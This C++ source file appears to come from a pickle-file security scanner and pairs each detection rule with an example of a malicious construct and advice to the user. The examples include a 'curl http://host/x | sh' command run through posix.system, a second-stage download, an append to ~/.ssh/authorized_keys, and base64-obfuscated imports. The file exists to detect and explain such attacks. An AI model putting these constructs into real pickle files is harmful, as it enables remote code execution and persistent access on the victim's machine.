#include "pickle/rule_guides.h"

#include <algorithm>
#include <array>

namespace counterscan::pickle {
namespace {

constexpr std::string_view kDoNotLoad =
    "Do not load the file. Report it to whoever published it, and use a copy in a format without "
    "code, such as safetensors. No policy can allow this.";
constexpr std::string_view kHandMade =
    "Do not load the file: it was made by hand, for readers that see less than Python does. Look "
    "at "
    "it with counterscan explain -x.";
constexpr std::string_view kLookItUp =
    "Look at what the file does with counterscan explain, and at the name's source in the package "
    "that has it. If it is yours or trusted, allow exactly this name: counterscan help policy.";

constexpr auto kGuides = std::to_array<RuleGuide>({
    {"PKL-101", "posix.system('curl http://host/x | sh')", kDoNotLoad},
    {"PKL-102", "builtins.exec('import os; ...')", kDoNotLoad},
    {"PKL-103", "importlib.import_module('evil')", kDoNotLoad},
    {"PKL-104", "operator.attrgetter('system')(os)", kDoNotLoad},
    {"PKL-105", "pickle.loads(b'...')",
     "What is inside is followed where it is constant: read those findings too. Do not load the "
     "file unless you know the program that wrote it and why it nests pickles."},
    {"PKL-106", "urllib.request.urlopen('http://host/stage2')", kDoNotLoad},
    {"PKL-107", "builtins.open('/home/me/.ssh/authorized_keys', 'a')", kDoNotLoad},
    {"PKL-108", "sys.modules['os'], ctypes.CDLL('libc.so.6')", kDoNotLoad},
    {"PKL-109", "picklescan.scanner.ScanResult", kDoNotLoad},
    {"PKL-110", "types.CodeType(0, 0, 0, 1, 67, b'...')",
     "Files of dill and cloudpickle carry functions as code. Load one only if you would run a "
     "program of the same author; ask for the weights alone."},
    {"PKL-111", "copyreg.add_extension('posix', 'system', 1)", kDoNotLoad},
    {"PKL-112", "from torch import serialization.os.system", kDoNotLoad},
    {"PKL-113", "zlib.decompress(b'x\\x9c...'), base64.b64decode('cG9zaXg=')", kDoNotLoad},
    {"PKL-114", "from shutil import os.system", kDoNotLoad},
    {"PKL-201", "find_class(base64.b64decode('cG9zaXg='), 'system')", kDoNotLoad},
    {"PKL-202", "FRAME 5, and an instruction of 9 bytes in it", kHandMade},
    {"PKL-203", "FRAME 40, and FRAME 10 before its end", kHandMade},
    {"PKL-204", "x.__setstate__({'__call__': posix.system})", kDoNotLoad},
    {"PKL-205", "torch.nn.Module.__setstate__({'forward': f})", kDoNotLoad},
    {"PKL-206", "f_1 = make(); f_1('x')",
     "Look at what makes the function with counterscan explain. Honest picklers do not write this: "
     "do not load the file before you know who did."},
    {"PKL-207", "get_extension(7)",
     "Find out whether the program that loads the file registers this code with "
     "copyreg.add_extension, and for which name. Otherwise do not load it."},
    {"PKL-208", "from 'os ' import 'system'", kHandMade},
    {"PKL-209", "STACK_GLOBAL of protocol 4 in a pickle of protocol 2", kHandMade},
    {"PKL-210", "GET with the index ' +1'", kHandMade},
    {"PKL-211", "b'...junk...' and a pickle behind it",
     "Look at the pickle behind the junk with counterscan explain. A file of several parts is "
     "honest only if its format says so."},
    {"PKL-212", "the bytes of an array begin with the opcodes of a pickle",
     "Do not load the file with pickle.load, nor at all before you know who wrote it."},
    {"PKL-213", "x.__setstate__({f_1: 2})", kHandMade},
    {"PKL-214", "f = getattr(posix, 'system'); f('true')", kDoNotLoad},
    {"PKL-215", "an instruction behind the end of a frame that only streams are cut at", kHandMade},
    {"PKL-216", "a second pickle that gets what only the first one put",
     "Load the file with one call of load a pickle, as its own program does. If it reads all of "
     "them with one Unpickler, do not load it."},
    {"PKL-218", "x.__setstate__({...}); x['key'] = v", kHandMade},
    {"PKL-219", "persistent_load('weights 1')",
     "Read what the loading program's persistent_load does with such a key. Without a program of "
     "its own the file cannot be loaded at all."},
    {"PKL-220", "torch._utils._rebuild_tensor_v2(storage of 4, 0, (1000,), (1,), ...)",
     "Do not load the file with a torch that does not check sizes. Ask for an intact copy."},
    {"PKL-221", "NumpyArrayWrapper.__setstate__({'shape': f(), ...})", kHandMade},
    {"PKL-222", "config.__setstate__({...}), and again config.__setstate__({...})", kHandMade},
    {"PKL-223", "beam.__setstate__((None, {'length': 'text'}))", kHandMade},
    {"PKL-224", "numpy.dtype('O8').__setstate__((3, '|', None, None, None, -1, -1, 0))", kHandMade},
    {"PKL-301", "Block.__new__(Block), with from acme.layers import Block", kLookItUp},
    {"PKL-302", "build('x'), with from acme.layers import build", kLookItUp},
    {"PKL-303", "numpy.some_function(...)", kLookItUp},
    {"PKL-304", "torch.nn.Linear(3, 4) called, where picklers only create it", kLookItUp},
    {"PKL-305", "whatever your rows name",
     "Ask whoever wrote the row. To lift it, change the row: a deny row wins over any other."},
    {"PKL-306", "model.metric = distance, with from acme.metrics import distance", kLookItUp},
});

}  // namespace

std::span<const RuleGuide> RuleGuides() { return kGuides; }

const RuleGuide* FindRuleGuide(std::string_view id) {
  const auto guide = std::find_if(kGuides.begin(), kGuides.end(),
                                  [&](const RuleGuide& row) { return row.id == id; });
  return guide == kGuides.end() ? nullptr : &*guide;
}

}  // namespace counterscan::pickle
